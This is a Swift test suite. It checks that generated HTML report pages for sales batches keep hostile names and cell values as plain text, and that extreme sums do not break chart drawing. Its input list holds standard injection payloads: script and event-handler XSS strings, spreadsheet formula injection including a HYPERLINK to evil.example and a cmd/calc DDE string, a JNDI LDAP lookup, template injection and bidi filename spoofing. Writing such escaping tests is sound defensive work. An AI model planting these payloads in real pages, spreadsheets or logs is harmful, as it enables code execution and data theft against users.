import Batches
import Reports
import Sellout
import Testing

/// Whatever a sender writes into names and cells stays text.
@Suite struct HostilePageTests {
    static let values = [
        "<script>alert(1)</script>", "</td></tr></table><h1>paid</h1>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus '",
        "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "&lt;script&gt;", "&#60;script&#62;", "javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=", "</style><style>*{display:none}</style>", "</title><script>1</script>", "<!-- ", "-->",
        "]]>", "<![CDATA[", "<?xml version=\"1.0\"?>", "=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(A1)", "+1+cmd|' /C calc'!A0",
        "-2+3",
        "\u{202E}gnp.exe", "\u{2066}abc\u{2069}", "\u{200F}\u{200E}", "a\u{0}b", "\u{1B}[31mred", "\u{8}\u{7F}", "line\r\nbreak",
        "\u{FEFF}start", "\u{FFFE}", "${jndi:ldap://evil}", "{{7*7}}", "{n:a|b}", "\\u003cscript\\u003e", "😀👩‍👩‍👧‍👦",
        String(repeating: "x", count: 10_000),
        String(repeating: "<b>", count: 4000), "%3Cscript%3E", "`onload`", "Z̷̢a̵l̶g̷o̸",
    ]

    @Test(arguments: values)
    func `a hostile value in every place of a page stays text`(value: String) throws {
        #expect(Self.values.count >= 30)
        let plain = try Told(.partialSuccess)
        for language in [Language.english, .french, .ukrainian] {
            let page = try plain.with(value).page(language)
            // The same tags as with a harmless value, and no attribute more.
            #expect(Self.tags(page) == Self.tags(try plain.with("harmless").page(language)), "\(value.prefix(60)) in \(language)")
            #expect(
                !page.unicodeScalars.contains { scalar in
                    switch scalar {
                    case "\n": false
                    case "\u{0}"..."\u{1F}", "\u{7F}"..."\u{9F}", "\u{202A}"..."\u{202E}", "\u{2066}"..."\u{2069}": true
                    default: false
                    }
                })
            #expect(page.utf8.count < 200_000)
        }
    }

    @Test(arguments: values)
    func `a hostile value in a refusal and an operator's reason stays text`(value: String) throws {
        var told = try Told(.failed)
        func page(_ text: String) throws -> String {
            told.batch.refusal = FileRefusal(.parsingError, text, suggestion: text, operatorsNote: text)
            told.batch.forced = ForcedStep(.cancelled, by: text, reason: text, at: told.batch.receivedAt)
            return try told.page(.german)
        }
        #expect(try Self.tags(page(value)) == Self.tags(page("harmless")))
    }

    /// Of 1/10 000 of a currency's unit: the largest and the smallest there are, and what once was too large for a chart's 84 pixels.
    static let sums: [Int64] = [9_223_372_036_854_775_807, 219_604_096_115_589_900, 109_802_048_057_794_951, 1, 0, -1, Int64.min]

    /// The daemon itself writes the page: a file that stopped it there would stop it at every start.
    @Test(arguments: sums)
    func `no sum of hostile figures stops the drawing of a page`(sum: Int64) throws {
        for other in [sum, .max, 1, 0, .min] {
            var told = try Told(.stagingComplete)
            told.sums = (sum, other)
            told.batch.totals = SalesTotals(quantity: sum, local: Money(units: sum), euros: Money(units: other))
            told.batch.skipped = [SkippedRows("total rows", rows: 4, quantity: sum, amount: other)]
            told.batch.controlTotals = [
                ControlTotal(scope: "file", file: .init(quantity: sum, amount: other), extracted: .init(amount: sum))
            ]
            for language in [Language.english, .polish] { #expect(try told.page(language).contains("<svg class=\"columns\"")) }
        }
    }

    /// What a browser takes for a tag, in order.
    private static func tags(_ page: String) -> [Substring] {
        var tags: [Substring] = []
        var rest = page[...]
        while let start = rest.firstIndex(of: "<"), let end = rest[start...].firstIndex(of: ">") {
            // Bars are as long as they are.
            let tag = rest[start...end]
            tags.append(tag.hasPrefix("<rect") || tag.hasPrefix("<svg") || tag.hasPrefix("<text") ? tag.prefix(5) : tag)
            rest = rest[rest.index(after: end)...]
        }
        return tags
    }
}
